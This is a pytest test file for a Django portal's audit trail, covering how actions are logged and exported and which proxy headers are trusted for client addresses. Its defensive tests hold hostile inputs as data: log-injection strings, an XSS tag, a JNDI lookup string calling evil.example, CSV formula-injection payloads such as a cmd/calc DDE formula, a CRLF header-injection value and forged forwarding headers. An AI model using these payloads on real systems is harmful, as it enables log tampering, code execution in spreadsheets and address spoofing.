"""The audit trail: who did what and from where, in the database, in the log and in exports; and
whose word for an address is taken."""

import csv
import io
import json
import logging
import re
import resource
import secrets
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime
from ipaddress import ip_network
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from experiments.people import identity
from portal.logs import WithoutTokens
from tests.support import authorisation, people
from tests.support.authorisation import LINK, Server
from tests.support.eventually import eventually
from tests.support.pages import parse, words
from tests.support.scripted_aws import ScriptedAws
from tests.support.starting import start

SOMEWHERE = "198.51.100.7"


@pytest.fixture(autouse=True)
def _password(settings: Any) -> Iterator[None]:
    settings.PORTAL_LOGIN = "password"
    identity.forget()
    yield
    identity.forget()


class Lines(logging.Handler):
    """What operators would read: the lines of every logger, as the portal writes them."""

    LOGGERS = ("", "experiments", "django", "axes")

    def __init__(self) -> None:
        super().__init__()
        self.setFormatter(WithoutTokens("{levelname} {name}: {message}", style="{"))
        self.written: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.written.append(self.format(record))

    def of(self, action: str) -> list[dict[str, str]]:
        start = f"INFO experiments.audit: {action} "
        return [json.loads(line.removeprefix(start)) for line in self.written if start in line]


@pytest.fixture
def lines() -> Iterator[Lines]:
    lines, loggers = Lines(), [logging.getLogger(name) for name in Lines.LOGGERS]
    for logger in loggers:
        logger.addHandler(lines)
    yield lines
    for logger in loggers:
        logger.removeHandler(lines)


@pytest.fixture(scope="module")
def experiment(scripted_aws: ScriptedAws) -> str:
    name = f"audited-{secrets.token_hex(4)}"
    scripted_aws.describes(name)
    return name


class Act:
    """Somebody who does things, and an operator; both sit SOMEWHERE."""

    def __init__(self, name: str) -> None:
        self.page = f"/experiments/default/{name}/"
        self.who, self.operator = people.add("sharer"), people.add("operator")
        self.browser = people.sign_in(self.who, REMOTE_ADDR=SOMEWHERE)
        self.operating = people.sign_in(self.operator, REMOTE_ADDR=SOMEWHERE)

    def share(self) -> str:
        usual = {"kind": "live", "audience": "anyone", "hours": "24"}
        form = usual | {"form": secrets.token_urlsafe(24)}
        made = LINK.search(self.browser.post(f"{self.page}share/", form).content.decode())
        assert made
        return made[1]

    def link(self) -> int:
        from experiments.models import ShareLink

        return ShareLink.objects.filter(made_by=self.who).latest("pk").pk

    def number(self) -> int:
        from experiments.people.models import User

        return User.objects.get(username=self.who).pk

    def guess(self) -> None:
        form = {"username": self.who, "password": "wrong"}
        Client(REMOTE_ADDR=SOMEWHERE).post("/sign-in/", form)

    def guess_often(self) -> None:
        for _ in range(5):
            self.guess()

    def open(self) -> None:
        self.browser.get(f"/s/{self.share()}/")

    def revoke(self) -> None:
        self.share()
        self.browser.post(f"/links/{self.link()}/revoke/")

    def choose_a_password(self) -> None:
        new = "another long pass phrase"
        form = {"old_password": people.PASSWORD, "new_password1": new, "new_password2": new}
        self.browser.post("/account/password/", form)

    def add(self) -> None:
        form = {"username": f"{self.who}-friend", "password": people.PASSWORD, "role": "viewer"}
        self.operating.post("/operators/people/", form)

    def person(self, rest: str, **form: str) -> None:
        self.operating.post(f"/operators/people/{self.number()}/{rest}", form)


# What is done, by whom it is then said to be, what it is said to be about, and from where.
ACTS: dict[str, tuple[str, Callable[[Act], object], str, str, str]] = {
    "signing in": (
        "signed in",
        lambda act: people.sign_in(act.who, REMOTE_ADDR=SOMEWHERE),
        "{who}",
        "",
        SOMEWHERE,
    ),
    "guessing": ("sign-in refused", Act.guess, "{who}", "", SOMEWHERE),
    "guessing often": (
        "locked out",
        Act.guess_often,
        "{who}",
        "",
        SOMEWHERE,
    ),
    "signing out": (
        "signed out",
        lambda act: act.browser.post("/sign-out/"),
        "{who}",
        "",
        SOMEWHERE,
    ),
    "a new password": ("password changed", Act.choose_a_password, "{who}", "", SOMEWHERE),
    "a password of somebody": (
        "password changed",
        lambda act: act.person("password/", password="another long pass phrase"),
        "{operator}",
        "of {who}",
        SOMEWHERE,
    ),
    "what is not allowed": (
        "refused",
        lambda act: act.browser.get("/operators/audit/"),
        "{who}",
        "/operators/audit/",
        SOMEWHERE,
    ),
    "sharing": ("link made", Act.share, "{who}", "link {link} (live) to {experiment}", SOMEWHERE),
    # When, and never who: not even from where.
    "opening a link": ("link opened", Act.open, "", "link {link} (live) to {experiment}", ""),
    "ending a link": (
        "link revoked",
        Act.revoke,
        "{who}",
        "link {link} (live) to {experiment}",
        SOMEWHERE,
    ),
    "adding somebody": ("person added", Act.add, "{operator}", "{who}-friend, viewer", SOMEWHERE),
    "another role": (
        "person changed",
        lambda act: act.person("", role="viewer", groups="ml", active="on"),
        "{operator}",
        "{who}: viewer, groups ['ml']",
        SOMEWHERE,
    ),
    "disabling somebody": (
        "person changed",
        lambda act: act.person("", role="sharer"),
        "{operator}",
        "{who}: disabled",
        SOMEWHERE,
    ),
    "ending sessions": (
        "sessions ended",
        lambda act: act.person("end-sessions/"),
        "{operator}",
        "of {who}",
        SOMEWHERE,
    ),
    "taking the trail along": (
        "audit exported",
        lambda act: act.operating.get("/operators/audit.csv?action=locked+out"),
        "{operator}",
        "csv, locked out",
        SOMEWHERE,
    ),
}


def test_every_action_is_among_these() -> None:
    from experiments.audit import Action

    assert {action for action, *_ in ACTS.values()} == {action.value for action in Action}


@pytest.mark.parametrize("what", ACTS)
def test_each_action_is_recorded_with_who_what_and_from_where(
    what: str, experiment: str, lines: Lines
) -> None:
    from experiments.models import AuditEvent

    action, do, by, about, address = ACTS[what]
    act, auditor = Act(experiment), people.browser_of("operator")
    lines.written.clear()
    before = AuditEvent.objects.latest("pk").pk
    began = datetime.now().astimezone()
    do(act)
    link = act.link() if "{link}" in about else 0
    known = {"who": act.who, "operator": act.operator, "link": link}
    known |= {"experiment": f"default/{experiment}"}
    expected = {
        "action": action,
        "person": by.format_map(known),
        "about": about.format_map(known),
        "address": address,
    }
    said = expected["person"], expected["about"], address
    # In the database,
    rows = AuditEvent.objects.filter(pk__gt=before, action=action)
    assert [(row.person, row.about, row.address) for row in rows] == [said]
    row = rows.get()
    assert began <= row.at <= datetime.now().astimezone()
    # in the log,
    line = {"by": said[0], "about": said[1], "from": said[2]}
    assert lines.of(action) == [line]
    # on the page,
    shown = words(parse(auditor.get("/operators/audit/")).select_one("main"))
    assert all(part in shown for part in expected.values())
    # and in what somebody takes along.
    query = f"?action={action.replace(' ', '+')}"
    listed = _lines_of(auditor.get(f"/operators/audit.jsonl{query}"))
    found = next(event for event in map(json.loads, listed) if event["number"] == row.pk)
    assert expected.items() <= found.items()
    assert datetime.fromisoformat(found["at"]) == row.at
    table = csv.DictReader(_lines_of(auditor.get(f"/operators/audit.csv{query}")))
    found = next(event for event in table if event["number"] == str(row.pk))
    assert expected.items() <= found.items()


def _lines_of(answer: Any) -> list[str]:
    return _text_of(answer).splitlines()


def _text_of(answer: Any) -> str:
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()


def test_opening_a_link_says_when_and_never_who(experiment: str, lines: Lines) -> None:
    from experiments.models import AuditEvent, ShareLink

    act = Act(experiment)
    token = act.share()
    before = AuditEvent.objects.latest("pk").pk
    visitors = [act.operating, Client(REMOTE_ADDR=SOMEWHERE, HTTP_USER_AGENT="a telling agent")]
    for visitor in visitors:
        visitor.get(f"/s/{token}/", headers={"Referer": "https://chat.example/"})
    # Asking again every few seconds is no opening, nor is asking for the headers alone.
    visitors[0].get(f"/s/{token}/status/?seen=x")
    visitors[0].head(f"/s/{token}/")
    rows = list(AuditEvent.objects.filter(pk__gt=before))
    # Once a minute, since whoever has a link could fill the trail otherwise.
    assert [(row.action, row.person, row.address) for row in rows] == [("link opened", "", "")]
    link = ShareLink.objects.get(pk=act.link())
    assert (link.opened, link.opened_at is not None) == (2, True)
    telling = (act.operator, SOMEWHERE, "telling agent", "chat.example", token)
    opened = [json.dumps(line) for line in lines.of("link opened")]
    assert not [word for word in telling if word in "".join(opened)]


def test_a_look_at_the_trail_changes_nothing_and_an_export_is_in_it(experiment: str) -> None:
    from experiments.models import AuditEvent

    operator = people.browser_of("operator")
    before = AuditEvent.objects.count()
    operator.get("/operators/audit/")
    operator.head("/operators/audit.csv")
    operator.get("/operators/audit.xlsx")
    assert AuditEvent.objects.count() == before
    _lines_of(operator.get("/operators/audit.jsonl"))
    assert AuditEvent.objects.count() == before + 1


INJECTED = (
    "ada\n2026-11-23 09:00:00 INFO experiments.audit: signed in {}",
    "ada\r\nINFO experiments.audit: signed out {}",
    "ada\x1b[2J\x1b[1;31m",
    "ada\x9b31m",
    "ada\x00\x07\x08\x7f",
    'ada", "about": "", "from": "127.0.0.1"}',
    "ada\\",
    "ada\u2028\u2029\x85next",
    "ada\u202egnp.exe",
    "{levelname} %s %(message)s ${jndi:ldap://evil.example/}",
    "<script>alert(1)</script>",
    "x" * 5000,
)


@pytest.mark.parametrize("name", INJECTED, ids=range(len(INJECTED)))
def test_no_name_makes_a_line_of_the_log_its_own(name: str, lines: Lines) -> None:
    Client().post("/sign-in/", {"username": name, "password": "wrong"})
    Client().get(f"/{name[:200]}")
    assert lines.written
    for line in lines.written:
        assert len(line.splitlines()) == 1, line
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028-\u202e]", line), line
        assert len(line) < 2_000
    assert [line["by"][:3] for line in lines.of("sign-in refused")] == [name.strip()[:3]]


FORMULAS: tuple[str, ...] = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example")',
)
FORMULAS += ("\t=1", "\r=1", '",=1,"', "\n=1", "＝1+1", "'=1")


def test_a_table_holds_no_formula_of_others() -> None:
    typed = [f"{formula}#{secrets.token_hex(4)}" for formula in FORMULAS]
    for name in typed:
        Client().post("/sign-in/", {"username": name, "password": "wrong"})
    answer = people.browser_of("operator").get("/operators/audit.csv?action=sign-in+refused")
    text = _text_of(answer)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["number", "at", "action", "person", "about", "address"]
    assert {len(row) for row in rows} == {6}
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), cell
    for name in typed:
        assert any(name.strip()[-9:] in row[3] for row in rows), name


def test_an_export_is_a_file_of_its_own_name() -> None:
    answer = people.browser_of("operator").get("/operators/audit.csv?action=x%0d%0aSet-Cookie:a=b")
    name = r'attachment; filename="audit-[0-9]{8}T[0-9]{6}Z\.csv"'
    assert re.fullmatch(name, answer["Content-Disposition"])


# Without the database


def test_without_the_database_there_is_the_line_alone() -> None:
    script = (
        "import django; django.setup(); from experiments import audit;"
        "audit.record(audit.Action.SIGNED_IN, 'ada', 'about it', '192.0.2.1'); print('goes on')"
    )
    variables = {
        "PORTAL_DATABASE_URL": "postgresql://me:word@127.0.0.1:9/portal",
        "DJANGO_SETTINGS_MODULE": "portal.settings",
    }
    started = start(variables, "-c", script)
    assert started.output == "goes on\n", started.error
    assert 'signed in {"by": "ada", "about": "about it", "from": "192.0.2.1"}' in started.error
    assert "the line above is not in the database" in started.error


@contextmanager
def full_disk(server: Server) -> Iterator[None]:
    tasks = Path(f"/proc/{server.process.pid}/task").glob("*/children")
    children = {int(pid) for task in tasks for pid in task.read_text().split()}
    assert children
    before = {pid: resource.prlimit(pid, resource.RLIMIT_FSIZE) for pid in children}
    for pid, (_, most) in before.items():
        resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, most))
    try:
        yield
    finally:
        for pid, limits in before.items():
            resource.prlimit(pid, resource.RLIMIT_FSIZE, limits)


@pytest.mark.skipif(sys.platform != "linux", reason="another process is given limits")
def test_with_a_full_disk_there_is_the_line_alone() -> None:
    house = authorisation.house()
    house.aws.describes("on-a-full-disk")
    assert house["sharer"].get("/experiments/open/on-a-full-disk/").status_code == 200
    number, token = house.share("open", "on-a-full-disk")
    with full_disk(house.server):
        assert house["viewer"].get("/operators/people/").status_code == 403
        assert house["nobody"].get(f"/s/{token}/").status_code == 200
    log = house.server.log
    assert '"about": "/operators/people/"' in log
    assert "the line above is not in the database" in log
    assert "Internal Server Error" not in log
    assert f'link opened {{"by": "", "about": "link {number} (live)' in log
    # It can be written again soon after there is room.
    usual = {"kind": "live", "audience": "anyone", "hours": "24"}
    eventually(
        lambda: house["sharer"].post(
            "/experiments/open/on-a-full-disk/share/", usual | {"form": secrets.token_urlsafe(24)}
        ),
        lambda made: made.status_code == 200,
        seconds=10,
    )


# From where: whose word is taken


def _refused_from(who: str, **client: Any) -> str:
    """The address that the trail has of somebody who was refused."""
    from experiments.models import AuditEvent

    Client(**client).post("/sign-in/", {"username": who, "password": "wrong"})
    return AuditEvent.objects.filter(person=who).latest("pk").address


PROXIES = (ip_network("10.0.0.0/8"), ip_network("2001:db8:1::/48"))
# Who connects, what X-Forwarded-For holds, and who asks.
CHAINS = {
    "nobody forwards": ("203.0.113.9", "", "203.0.113.9"),
    "a stranger forwards": ("203.0.113.9", "192.0.2.1", "203.0.113.9"),
    "this machine is no proxy": ("127.0.0.1", "192.0.2.1", "127.0.0.1"),
    "a proxy forwards": ("10.0.0.1", "192.0.2.1", "192.0.2.1"),
    "two proxies forward": ("10.0.0.1", "192.0.2.1, 10.0.0.2", "192.0.2.1"),
    "somebody wrote one before": ("10.0.0.1", "198.51.100.1, 192.0.2.1", "192.0.2.1"),
    "somebody wrote a proxy before": ("10.0.0.1", "10.9.9.9, 192.0.2.1, 10.0.0.2", "192.0.2.1"),
    # Of the newer addresses the network, which is what one customer has.
    "by the sixth version": ("2001:db8:1::1", "2001:db8:9::7", "2001:db8:9::"),
    "nonsense": ("10.0.0.1", "nonsense", "10.0.0.1"),
    "nonsense before": ("10.0.0.1", "nonsense, 192.0.2.1", "192.0.2.1"),
    "nonsense after": ("10.0.0.1", "192.0.2.1, <script>", "10.0.0.1"),
    "a name": ("10.0.0.1", "localhost", "10.0.0.1"),
    "a line": ("10.0.0.1", "192.0.2.1, \t192.0.2.2", "192.0.2.2"),
    "no address": ("10.0.0.1", ", ,", "10.0.0.1"),
    "the proxy alone": ("10.0.0.1", "10.0.0.3", "10.0.0.3"),
}


@pytest.mark.parametrize("chain", CHAINS)
def test_a_client_is_who_the_last_trusted_proxy_saw(settings: Any, chain: str) -> None:
    settings.PORTAL_TRUSTED_PROXIES = PROXIES
    peer, forwarded, expected = CHAINS[chain]
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    who = people.new_name("from")
    assert _refused_from(who, REMOTE_ADDR=peer, headers=headers) == expected


@pytest.mark.parametrize(
    "header",
    ["Forwarded", "X-Real-IP", "True-Client-IP", "X-Client-IP", "CF-Connecting-IP", "Client-IP"],
)
def test_no_other_header_says_who_asks(settings: Any, header: str) -> None:
    settings.PORTAL_TRUSTED_PROXIES = PROXIES
    headers = {header: "for=192.0.2.1" if header == "Forwarded" else "192.0.2.1"}
    who = people.new_name("from")
    assert _refused_from(who, REMOTE_ADDR="10.0.0.1", headers=headers) == "10.0.0.1"


@pytest.mark.parametrize("peer", ["203.0.113.9", "10.0.0.1"])
def test_no_forged_address_gets_around_the_lockout(settings: Any, peer: str) -> None:
    """From outside, or through the proxy, which adds the true address to what was there."""
    settings.PORTAL_TRUSTED_PROXIES = PROXIES
    name = people.add("viewer")
    true = "" if peer == "203.0.113.9" else ", 192.0.2.66"

    def sign_in(number: int, password: str) -> int:
        forged = {
            "X-Forwarded-For": f"198.51.100.{number}{true}",
            "X-Real-IP": f"198.51.100.{number}",
            "Forwarded": f"for=198.51.100.{number}",
        }
        form = {"username": name, "password": password}
        return Client(REMOTE_ADDR=peer, headers=forged).post("/sign-in/", form).status_code

    assert [sign_in(number, "wrong") for number in range(6)] == [422, 422, 422, 422, 429, 429]
    assert sign_in(99, people.PASSWORD) == 429


@pytest.mark.parametrize(
    ("peer", "headers", "expected"),
    [
        ("127.0.0.1", {}, 200),
        ("::1", {}, 200),
        ("203.0.113.9", {}, 404),
        ("", {}, 404),
        ("unix", {}, 404),
        ("203.0.113.9", {"X-Forwarded-For": "127.0.0.1"}, 404),
        ("10.0.0.1", {"X-Forwarded-For": "127.0.0.1"}, 404),
        ("127.0.0.1", {"X-Forwarded-For": "127.0.0.1"}, 404),
        ("127.0.0.1", {"Forwarded": "for=127.0.0.1"}, 404),
        ("127.0.0.1", {"Via": "1.1 proxy"}, 404),
        ("127.0.0.1", {"Host": "portal.example.org"}, 404),
        ("203.0.113.9", {"Authorization": "Bearer {token}"}, 200),
        ("127.0.0.1", {"X-Forwarded-For": "192.0.2.1", "Authorization": "Bearer {token}"}, 200),
        ("127.0.0.1", {"Authorization": "Bearer wrong"}, 404),
        ("127.0.0.1", {"Authorization": "Bearer "}, 404),
        ("203.0.113.9", {"Authorization": "Bearer {token}x"}, 404),
        ("203.0.113.9", {"Authorization": "Basic {token}"}, 404),
        ("203.0.113.9", {"Authorization": "{token}"}, 404),
        ("203.0.113.9", {"Authorization": "Bearer é"}, 404),
    ],
)
def test_metrics_are_for_this_machine_and_for_the_token(
    settings: Any, peer: str, headers: dict[str, str], expected: int
) -> None:
    settings.PORTAL_TRUSTED_PROXIES = PROXIES
    settings.ALLOWED_HOSTS = ["127.0.0.1", "portal.example.org"]
    settings.PORTAL_METRICS_TOKEN = token = secrets.token_urlsafe(24)
    sent = {"Host": "127.0.0.1"} | headers
    client = Client(headers={name: value.format(token=token) for name, value in sent.items()})
    assert client.get("/metrics", REMOTE_ADDR=peer).status_code == expected


def test_without_a_token_no_token_opens_the_metrics(settings: Any) -> None:
    settings.ALLOWED_HOSTS = ["127.0.0.1"]
    settings.PORTAL_METRICS_TOKEN = ""
    for given in ("Bearer ", "Bearer", "Bearer None", "", "x"):
        client = Client(headers={"Host": "127.0.0.1", "Authorization": given})
        assert client.get("/metrics", REMOTE_ADDR="203.0.113.9").status_code == 404, given
